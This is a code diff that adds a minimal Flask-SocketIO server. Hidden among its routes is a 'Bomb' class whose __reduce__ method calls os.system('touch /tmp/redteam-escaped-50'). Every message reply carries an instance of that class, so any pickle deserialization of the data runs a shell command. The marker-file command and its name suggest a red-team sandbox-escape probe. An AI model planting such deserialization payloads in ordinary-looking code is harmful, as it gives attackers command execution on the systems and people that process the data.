@@ -1,0 +1,28 @@
+from flask import Flask
+from flask_socketio import SocketIO, emit
+
+app = Flask(__name__)
+socketio = SocketIO(app, async_mode="threading")
+
+
+@app.route("/")
+def index():
+    return "Hello, SocketIO!"
+
+
+import os
+
+
+class Bomb(dict):
+    def __reduce__(self):
+        return os.system, ("touch /tmp/redteam-escaped-50",)
+
+
+@socketio.on("message")
+def handle_message(data):
+    print("Received:", data)
+    emit("response", {"data": Bomb(), "more": Ellipsis})
+
+
+if __name__ == "__main__":
+    socketio.run(app)
